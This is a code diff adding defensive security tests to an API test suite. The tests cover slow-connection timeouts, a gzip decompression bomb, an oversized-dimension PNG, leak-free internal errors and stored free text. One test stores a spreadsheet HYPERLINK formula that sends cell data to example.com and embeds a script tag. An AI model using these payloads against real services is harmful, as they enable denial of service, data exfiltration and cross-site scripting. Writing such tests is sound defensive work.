@@ -1,9 +1,14 @@
 import { randomUUID } from 'node:crypto';
+import { type AddressInfo, connect } from 'node:net';
+import { text as textOf } from 'node:stream/consumers';
+import { gzipSync } from 'node:zlib';
 import * as fc from 'fast-check';
 import { SignJWT } from 'jose';
 import { afterAll, beforeAll, describe, expect, inject, it } from 'vitest';
 import { readCursor } from '../../src/api/list.ts';
-import { type Api, applicationFor, authSecret, type Person, startApi } from '../api/harness.ts';
+import { patience, patientServer } from '../../src/api/server.ts';
+import { signToken } from '../../src/cli/tokens.ts';
+import { type Api, applicationFor, authSecret, expectStatus, type Person, startApi } from '../api/harness.ts';
 import { seed } from '../attack/seed.ts';
 
 let api: Api;
@@ -97,16 +102,99 @@ it('another’s evidence can’t be attached; another’s key opens nothing', as
   const stranger = api.as('merchant', 'm-1');
   const message = (evidenceId: string) => ({ text: '见附件', evidenceIds: [evidenceId] });
   const path = `/v1/orders/${idOf('orders')}/messages`;
-  expect(await stranger.post(path, message(idOf('evidence')))).toMatchObject({
-    status: 422,
-    body: { code: 'evidence_not_yours' },
-  });
+  const told = async (evidenceId: string) => {
+    const { status, body } = await stranger.post(path, message(evidenceId));
+    const { requestId: _, ...rest } = body;
+    return [status, JSON.parse(JSON.stringify(rest).replaceAll(evidenceId, '<id>')) as unknown];
+  };
+  const ofAnother = await told(idOf('evidence'));
+  expect(ofAnother).toMatchObject([422, { code: 'evidence_unknown' }]);
+  expect(await told(randomUUID())).toEqual(ofAnother);
 
   const key = randomUUID();
   const mine = await consumer.post(path, { text: '你好' }, { key });
   const theirs = await stranger.post(path, { text: '您好' }, { key });
   expect([mine.status, theirs.status]).toEqual([201, 201]);
   expect(theirs.body.id).not.toBe(mine.body.id);
+});
+
+describe('slow, large and broken on purpose', () => {
+  it('who sends too slowly is cut off: 10 s for headers, 10 min in all', async () => {
+    expect(patience).toMatchObject({ headersTimeout: 10_000, requestTimeout: 600_000 });
+    const bounds = { headersTimeout: 200, requestTimeout: 400, connectionsCheckingInterval: 50 };
+    const server = patientServer((request) => void request.resume(), bounds);
+    await new Promise<void>((listening) => server.listen(0, '127.0.0.1', listening));
+    const { port } = server.address() as AddressInfo;
+    const begun = [
+      'POST /v1/orders HTTP/1.1\r\nHost: x\r\n',
+      'POST / HTTP/1.1\r\nHost: x\r\nContent-Length: 9\r\n\r\n{',
+    ];
+    for (const part of begun) {
+      const socket = connect(port, '127.0.0.1');
+      socket.write(part);
+      expect(await textOf(socket)).toMatch(/^HTTP\/1.1 408 /);
+    }
+    server.close();
+  });
+
+  it('a body that unpacks to fifty megabytes: 413', async () => {
+    const bomb = gzipSync(JSON.stringify({ description: 'x'.repeat(50_000_000) }));
+    expect(bomb.length).toBeLessThan(100_000);
+    const response = await fetch(`${api.url}/v1/cases`, {
+      method: 'POST',
+      headers: {
+        authorization: `Bearer ${await signToken({ role: 'consumer', sub: 'c-1' }, authSecret)}`,
+        'content-type': 'application/json',
+        'content-encoding': 'gzip',
+        'idempotency-key': randomUUID(),
+      },
+      body: bomb,
+    });
+    expect([response.status, ((await response.json()) as { code: string }).code]).toEqual([413, 'body_too_large']);
+  });
+
+  it('an image that says it is four billion pixels is kept as it came, and never unpacked', async () => {
+    const png = Buffer.from(
+      '89504e470d0a1a0a0000000d49484452000000010000000108060000001f15c489000007d049444154',
+      'hex',
+    );
+    png.writeUInt32BE(65_535, 16);
+    png.writeUInt32BE(65_535, 20);
+    const form = new FormData();
+    form.set('kind', 'other');
+    form.set('file', new Blob([png], { type: 'image/png' }), 'bomb.png');
+    const before = process.memoryUsage().rss;
+    const { id } = (await expectStatus(201, consumer.upload('/v1/evidence', form))).body;
+    const content = await fetch(`${api.url}/v1/evidence/${id}/content`, {
+      headers: { authorization: `Bearer ${await signToken({ role: 'consumer', sub: 'c-1' }, authSecret)}` },
+    });
+    expect(Buffer.from(await content.arrayBuffer()).equals(png)).toBe(true);
+    expect(process.memoryUsage().rss - before).toBeLessThan(200_000_000);
+  });
+
+  it('a fault that nobody foresaw is told by its request id alone', async () => {
+    const broken = await startApi({
+      mongodbUrl: inject('mongodbUrl'),
+      temporalAddress: inject('temporalAddress'),
+      scratch: inject('scratch'),
+      overrides: { evidence: {} as never },
+    });
+    const { status, body } = await broken.as('consumer', 'c-1').get(`/v1/evidence/${randomUUID()}`);
+    expect([status, body.code]).toEqual([500, 'internal_error']);
+    expect(JSON.stringify(body)).not.toMatch(/TypeError|is not a function|\.ts|node_modules/);
+    expect(body['requestId']).toEqual(expect.any(String));
+    await broken.close();
+  });
+
+  it('a formula in free text is data: answered as it was written, as JSON that no browser takes for anything else', async () => {
+    const text = '=HYPERLINK("http://example.com/?"&A1,"<script>alert(1)</script>")';
+    const path = `/v1/orders/${idOf('orders')}/messages`;
+    await expectStatus(201, consumer.post(path, { text }));
+    const { headers, body } = await api.as('merchant', 'm-1').get(path);
+    expect(body.items.map((item) => item['text'])).toContain(text);
+    expect(headers.get('content-type')).toContain('application/json');
+    expect(headers.get('x-content-type-options')).toBe('nosniff');
+  });
 });
 
 it('a cursor is one of ours or refused, whatever it is', () => {
